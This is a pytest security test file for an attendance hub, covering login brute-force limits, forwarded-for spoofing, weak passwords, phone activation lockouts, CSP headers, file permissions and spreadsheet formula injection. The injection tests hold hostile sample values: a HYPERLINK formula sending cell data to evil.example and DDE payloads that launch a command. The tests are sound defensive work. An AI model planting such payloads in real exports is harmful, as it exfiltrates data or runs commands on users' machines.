"""Issue 20, parts 2 and 3: what an attacker found over HTTP, on the real app and database.

Logins (parallel guesses, forwarded-for rotation, weak passwords, lock-outs
of the real user), phone activation (no staff-number enumeration, no SMS
lock-out by strangers), CSV formula injection, the fuzzer's 500s, /docs
without a CDN and a CSP on every page, and file permissions of the database
and its secrets.
"""

import csv
import io
import os
import re
import stat
import threading
import time
from datetime import timedelta
from ipaddress import ip_network

import pytest
import yaml
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from biometrics.encoder import FaceEncoder
from hub.accounts import passwords as dashboard_passwords
from hub.accounts.models import LoginFailure
from hub.api.proxies import client_address
from hub.app import load, open_engine
from hub.cli import main
from hub.db import utcnow
from hub.errors import InvalidInput
from hub.masterdata import employees, units
from hub.masterdata.fields import DdoPatch, EmployeePatch, UnitPatch
from hub.phone.sms import read_outbox
from tests import phonekit as kit
from tests.browser import browser_factory  # noqa: F401  (fixture)
from tests.browser import ServedApp, wait_for
from tests.hub_api_kit import PASSWORD, HubApi, punch_record, seed_org
from tests.hub_db import any_engine, sqlite_engine  # noqa: F401  (fixture)

LOGIN = "/api/v1/auth/login"


@pytest.fixture
def hub(tmp_path, any_engine):
    api = HubApi(tmp_path, any_engine, auth={"max_failures_per_user": 5, "max_failures_per_address": 50},
                 security={"trusted_proxies": ["10.0.0.2"], "login_slowdown_after": 8, "login_slowdown_s": 2})
    with api.sessions.begin() as session:
        seed_org(session)
    yield api
    api.close()


# --- part 3: formula injection ------------------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_formula_injection_is_neutralised_in_every_csv_export(hub):
    with hub.sessions.begin() as session:
        employees.update_employee(session, "E001", EmployeePatch(name=HOSTILE_NAME))
        employees.update_employee(session, "E002", EmployeePatch(name="+cmd|' /C calc'!A0"))
        session.add_all([punch_record("E001", "S-PHC1", "09:40", "@SUM(1+1)*cmd"),
                         punch_record("E001", "S-PHC1", "17:50", "-2+3")])
    admin = hub.machine
    exports = {
        "daily": {"unit_id": "EDU", "date": "2026-04-07"},
        "exceptions": {"from": "2026-04-07", "to": "2026-04-07"},
        "muster": {"unit_id": "EDU", "month": "2026-04"},
        "payroll": {"ddo_id": "DDO-E", "month": "2026-04"},
        "employees/E001/history": {"from": "2026-04-06", "to": "2026-04-07"},
    }
    for path, params in exports.items():
        cells = [c for row in rows_of(admin.get(f"/api/v1/reports/{path}", params={**params, "format": "csv"}))
                 for c in row]
        dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-")]
        assert not dangerous, (path, dangerous)
        if path != "employees/E001/history":
            assert "'" + HOSTILE_NAME in cells, path
    assert "'+cmd|' /C calc'!A0" in [c for row in rows_of(admin.get(
        "/api/v1/reports/daily", params={"unit_id": "EDU", "date": "2026-04-07", "format": "csv"})) for c in row]


def test_formula_injection_is_neutralised_in_every_excel_export(hub):
    """Names of people, offices and DDOs reach the workbook as text, never as a formula cell."""
    with hub.sessions.begin() as session:
        employees.update_employee(session, "E001", EmployeePatch(name=HOSTILE_NAME))
        employees.update_employee(session, "E002", EmployeePatch(name="@SUM(1+1)*cmd|' /C calc'!A0"))
        units.update_unit(session, "EDU", UnitPatch(name="=1+1"))
        units.update_ddo(session, "DDO-E", DdoPatch(name="-2+3"))
        session.add(punch_record("E001", "S-SCH1", "09:40", "+cmd"))
    admin = hub.machine
    for path, params in {"muster": {"unit_id": "EDU", "month": "2026-04"},
                         "payroll": {"ddo_id": "DDO-E", "month": "2026-04"}}.items():
        response = admin.get(f"/api/v1/reports/{path}", params={**params, "format": "xlsx"})
        assert response.status_code == 200, response.text
        [sheet] = load_workbook(io.BytesIO(response.content)).worksheets
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert not formulas, (path, formulas)
        texts = [c.value for c in cells if isinstance(c.value, str)]
        dangerous = [t for t in texts if t[:1] in ("=", "+", "@", "\t", "\r") or (t[:1] == "-" and t != "-")]
        assert not dangerous, (path, dangerous)
        assert "'" + HOSTILE_NAME in texts and "'@SUM(1+1)*cmd|' /C calc'!A0" in texts, path
        assert any(t.startswith("'=1+1") for t in texts) and any(t.startswith("'-2+3") for t in texts), path


# --- part 3: the fuzzer's five 500s ---------------------------------------------------------------

@pytest.mark.parametrize("method, url, body", [
    ("get", f"/api/v1/audit?before_id={2 ** 70}", None),
    ("get", "/api/v1/punches?since=0001-01-01T00:00:00%2B05:30", None),
    ("post", "/api/v1/sites", {"site_id": "S-TZ", "name": "tz", "cutoff": "12:00:00+05:30"}),
    ("patch", "/api/v1/sites/S-PHC1", {"shift_start": "10:00:00-03:00"}),
    ("get", f"/api/v1/imports/employees/{2 ** 64 + 1}", None),
])
def test_the_fuzzers_cases_answer_4xx_with_a_reason(hub, method, url, body):
    client = hub.machine
    client.raise_server_exceptions = False
    response = getattr(client, method)(url, **({"json": body} if body is not None else {}))
    assert 400 <= response.status_code < 500, response.text
    assert response.json()["detail"]


# --- part 3: /docs without a CDN, a CSP on every page --------------------------------------------------

def test_docs_load_only_local_assets_that_are_served(hub):
    client = hub.client()
    page = client.get("/docs")
    assert page.status_code == 200
    sources = re.findall(r'(?:src|href)="([^"]+)"', page.text)
    assert sources and all(s.startswith("/") and not s.startswith("//") for s in sources), sources
    for source in sources:
        asset = client.get(source)
        assert asset.status_code == 200 and len(asset.content) > 100, source
    policy = page.headers["content-security-policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
    script_src = re.search(r"script-src ([^;]+)", policy).group(1)
    assert "'unsafe-inline'" not in script_src and "'sha256-" in script_src
    assert client.get("/redoc").status_code == 404  # no CDN-only ReDoc


@pytest.mark.parametrize("path", [
    "/dashboard/", "/phone/", "/docs", "/openapi.json", "/api/v1/health", "/api/v1/auth/me", "/nowhere",
    "/dashboard/app.js",
])
def test_every_page_carries_a_content_security_policy(hub, path):
    response = hub.client().get(path)
    policy = response.headers.get("content-security-policy", "")
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy, (path, response.status_code)
    assert response.headers["x-content-type-options"] == "nosniff"


# --- part 2: dashboard logins ---------------------------------------------------------------------

class Clock:
    def __init__(self) -> None:
        self.now = utcnow()

    def __call__(self):
        return self.now


def login_as(client, username: str, password: str, **headers) -> int:
    return client.post(LOGIN, json={"username": username, "password": password}, headers=headers).status_code


def test_30_parallel_wrong_passwords_check_at_most_the_allowed_number(hub):
    hub.user_client("carol", "admin")
    attacker = hub.client(address="203.0.113.7")
    codes: list[int] = []
    barrier = threading.Barrier(30)

    def guess(i: int) -> None:
        barrier.wait()
        codes.append(login_as(attacker, "carol", f"guess-{i}"))

    threads = [threading.Thread(target=guess, args=(i,)) for i in range(30)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(codes) == [401] * 5 + [429] * 25, codes
    with hub.sessions() as session:
        assert session.query(LoginFailure).filter_by(username="carol").count() == 5


def test_forwarded_for_is_honoured_only_from_a_trusted_proxy(hub):
    hub.user_client("dave", "admin")
    untrusted = hub.client(address="203.0.113.9")
    codes = [login_as(untrusted, "dave", "nope", **{"X-Forwarded-For": f"192.0.2.{i}"}) for i in range(8)]
    assert codes == [401] * 5 + [429] * 3  # a new header per try buys nothing
    proxy = hub.client(address="10.0.0.2")
    clock = Clock()
    hub.app.state.clock = clock
    behind = []
    for i in range(7):
        clock.now += timedelta(seconds=2)  # past the account's slow-down (it has had 8 failures)
        client = f"198.51.100.{0 if i < 6 else 1}"
        behind.append(login_as(proxy, "dave", "nope", **{"X-Forwarded-For": f"1.2.3.4, {client}"}))
    assert behind == [401] * 5 + [429] + [401]  # each real client behind the proxy has its own count
    with hub.sessions() as session:
        sources = {f.source for f in session.query(LoginFailure).filter_by(username="dave")}
    assert sources == {"203.0.113.9", "198.51.100.0", "198.51.100.1"}  # never the spoofed left-most 1.2.3.4
    clock.now += timedelta(seconds=2)
    assert login_as(proxy, "dave", PASSWORD, **{"X-Forwarded-For": "198.51.100.77"}) == 200


def test_the_real_user_is_not_locked_out_by_other_addresses(hub):
    clock = Clock()
    hub.app.state.clock = clock
    hub.user_client("erin", "admin")
    attacker = hub.client(address="203.0.113.50")
    assert [login_as(attacker, "erin", f"g{i}") for i in range(7)] == [401] * 5 + [429] * 2
    assert login_as(attacker, "erin", PASSWORD) == 429  # this address is done guessing at erin
    assert hub.login("erin", address="192.0.2.10").get("/api/v1/auth/me").status_code == 200
    # many addresses at once: the account is slowed down, one attempt per 2 s, never locked
    for n in range(10):
        assert login_as(hub.client(address=f"203.0.113.{100 + n}"), "erin", "wrong-again") in (401, 429)
        clock.now += timedelta(seconds=2)
    owner = hub.client(address="192.0.2.10")
    attacker_again = hub.client(address="203.0.113.120")
    assert login_as(attacker_again, "erin", "another") == 401
    slowed = owner.post(LOGIN, json={"username": "erin", "password": PASSWORD})
    assert slowed.status_code == 429 and 1 <= int(slowed.headers["retry-after"]) <= 2
    clock.now += timedelta(seconds=2)
    assert login_as(owner, "erin", PASSWORD) == 200


# --- part 2: weak passwords, for every account type -----------------------------------------------

WEAK = ["1234567890", "password123", "Password123!", "qwertyuiop12", "abcabcabcabc", "0987654321", "P@ssw0rd2024"]


@pytest.mark.parametrize("weak", WEAK + ["ramesh.kumar", "Ramesh-1985-x"])
def test_weak_dashboard_passwords_are_refused(hub, weak):
    one_time = hub.add_user("ramesh.kumar", "admin")
    client = hub.login("ramesh.kumar", one_time)
    response = client.post("/api/v1/auth/password", json={"current_password": one_time, "new_password": weak})
    assert response.status_code == 422, (weak, response.text)
    with pytest.raises(InvalidInput):
        dashboard_passwords.check_new_password(weak, username="ramesh.kumar")


@pytest.fixture
def phone(tmp_path):
    """``phone(address)`` -> a client of a hub with the phone kit's employees, its clock and SMS outbox."""
    engine = sqlite_engine(tmp_path)
    kit.build_world(engine, [])
    clock = kit.Clock()
    app = kit.make_app(tmp_path, engine, FaceEncoder(), clock=clock)
    clients = []

    def client(address: str = "198.51.100.7") -> TestClient:
        clients.append(TestClient(app, base_url="https://hub.example", client=(address, 40000)))
        return clients[-1]

    yield client, clock, tmp_path / "sms-outbox.jsonl"
    for c in clients:
        c.close()
    engine.dispose()


@pytest.mark.parametrize("weak", WEAK + ["Asha-Verma-77", "verma@Lucknow1"])
def test_weak_phone_passwords_are_refused(phone, weak):
    make, _, outbox = phone
    client = make()
    activation_id = client.post("/phone/api/activation", json={"staff_number": kit.STAFF}).json()["activation_id"]
    setup = client.post("/phone/api/activation/verify",
                        json={"activation_id": activation_id, "code": kit.last_code(outbox)})
    response = client.post("/phone/api/activation/complete", json={
        "activation_id": activation_id, "setup_token": setup.json()["setup_token"], "password": weak})
    assert response.status_code == 422 and response.json()["reason"].startswith("password_"), (weak, response.text)


# --- part 2: phone activation -----------------------------------------------------------------------

def test_activation_does_not_tell_whether_a_staff_number_exists(phone):
    make, _, outbox = phone
    answers, seconds = {}, {}
    for staff in (kit.STAFF, "UP9999", "UP1003", "UP1004"):  # real; unknown; a leaver; no mobile
        client = make(address=f"192.0.2.{len(answers) + 1}")
        started = time.perf_counter()
        response = client.post("/phone/api/activation", json={"staff_number": staff})
        seconds[staff] = time.perf_counter() - started
        answers[staff] = (response.status_code, tuple(sorted(response.json())), len(response.json()["activation_id"]))
    assert len(set(answers.values())) == 1, answers
    assert not any(d in str(answers) for d in (kit.MOBILE[-2:], kit.MOBILE[-4:]))
    assert len(read_outbox(outbox)) == 1  # only the real one got an SMS
    # one Argon2 hash each: the same timing class (not a cheap 404 against a hashed code)
    assert min(seconds.values()) > 0.25 * max(seconds.values()), seconds


def test_strangers_activation_requests_do_not_block_the_real_employee(phone):
    make, _, outbox = phone
    stranger = make(address="203.0.113.66")
    codes = [stranger.post("/phone/api/activation", json={"staff_number": kit.STAFF}).status_code for _ in range(4)]
    assert codes == [200, 200, 200, 429]
    for n in range(3):  # more strangers, each from their own address
        other = make(address=f"203.0.113.{70 + n}")
        assert other.post("/phone/api/activation", json={"staff_number": kit.STAFF}).status_code == 200
    owner = make(address="198.51.100.7")
    response = owner.post("/phone/api/activation", json={"staff_number": kit.STAFF})
    assert response.status_code == 200, response.text
    assert len([m for m in read_outbox(outbox) if m["to"] == kit.MOBILE]) == 7


# --- part 3: file permissions ------------------------------------------------------------------------

@pytest.fixture
def usual_umask():
    old = os.umask(0o022)  # what most services run with: new files readable by everyone
    yield
    os.umask(old)


def hub_config(tmp_path, token_mode: int, database: str):
    """A config file whose admin token file has ``token_mode``; returns (config, token) paths."""
    token = tmp_path / "admin.token"
    token.write_text("a-real-admin-token-0123456789\n")
    token.chmod(token_mode)
    config = tmp_path / "hub.yaml"
    config.write_text(yaml.safe_dump({"database_url": f"sqlite:///{tmp_path / database}",
                                      "admin_token_file": str(token)}))
    return config, token


def test_database_wal_files_and_secrets_are_owner_only(tmp_path, usual_umask):
    config, _ = hub_config(tmp_path, 0o600, "db/hub.sqlite")
    assert main(["init-db", "--config", str(config)]) == 0
    engine = open_engine(load(config))
    with engine.connect() as conn:  # WAL mode: the -wal and -shm files exist while a connection is open
        conn.exec_driver_sql("SELECT count(*) FROM employees")
        made = sorted(p.name for p in (tmp_path / "db").iterdir())
        modes = {name: stat.S_IMODE((tmp_path / "db" / name).stat().st_mode) for name in made}
    engine.dispose()
    assert {"hub.sqlite", "hub.sqlite-wal", "hub.sqlite-shm", "gallery-key.secret"} <= set(made), made
    assert all(mode == 0o600 for name, mode in modes.items() if name != "photos"), modes
    assert main(["check-config", str(config)]) == 0


def test_check_config_refuses_a_world_readable_token_file(tmp_path, capsys, usual_umask):
    config, token = hub_config(tmp_path, 0o644, "hub.sqlite")
    assert main(["check-config", str(config)]) == 1
    err = capsys.readouterr().err
    assert f"admin_token_file: {token} is open to group/others (mode 0644)" in err
    assert f"chmod 600 {token}" in err
    token.chmod(0o600)
    assert main(["check-config", str(config)]) == 0


@pytest.mark.browser
def test_docs_render_in_chromium_under_their_csp(tmp_path, browser_factory):
    """Swagger UI runs from the installed package's files: its hashed inline script is allowed, nothing is blocked."""
    from selenium.webdriver.common.by import By
    api = HubApi(tmp_path, sqlite_engine(tmp_path))
    driver = browser_factory()
    with ServedApp(api.app) as served:
        driver.get(served.url + "/docs")
        title = wait_for(driver, lambda d: d.find_elements(By.CSS_SELECTOR, ".swagger-ui .info .title"),
                         message="Swagger UI did not render")
        assert "Attendance hub" in title[0].text
        assert driver.find_elements(By.CSS_SELECTOR, ".opblock")  # the operations from /openapi.json
        blocked = [e for e in driver.get_log("browser") if "Content Security Policy" in e["message"]]
        assert not blocked, blocked
    api.close()


def test_a_strangers_wrong_codes_do_not_lock_the_owner_out(phone):
    make, _, outbox = phone
    stranger = make(address="203.0.113.66")
    for _ in range(3):  # every code a stranger may ask for, each guessed at until it is void
        activation_id = stranger.post("/phone/api/activation", json={"staff_number": kit.STAFF}).json()["activation_id"]
        for n in range(5):
            stranger.post("/phone/api/activation/verify", json={"activation_id": activation_id, "code": f"00000{n}"})
    assert stranger.post("/phone/api/activation/verify", json={"activation_id": activation_id,
                                                               "code": "000009"}).status_code in (410, 429)
    owner = make(address="198.51.100.7")
    activation_id = owner.post("/phone/api/activation", json={"staff_number": kit.STAFF}).json()["activation_id"]
    verified = owner.post("/phone/api/activation/verify",
                          json={"activation_id": activation_id, "code": kit.last_code(outbox)})
    assert verified.status_code == 200, verified.text


@pytest.mark.parametrize("peer, chain, expected", [
    ("203.0.113.9", ["192.0.2.1"], "203.0.113.9"),                  # not a proxy: the header is ignored
    ("10.0.0.2", ["192.0.2.1"], "192.0.2.1"),                       # the proxy names its client
    ("10.0.0.2", ["6.6.6.6, 192.0.2.1"], "192.0.2.1"),              # the client's own left-most entry is not believed
    ("10.0.0.2", ["192.0.2.1, 10.0.0.3"], "192.0.2.1"),             # through two trusted proxies
    ("10.0.0.2", ["not-an-address"], "10.0.0.2"),                   # garbled: the proxy itself
    ("10.0.0.2", [], "10.0.0.2"),
])
def test_the_client_address_is_the_right_most_untrusted_hop(peer, chain, expected):
    assert client_address(peer, chain, [ip_network("10.0.0.0/29")]) == expected
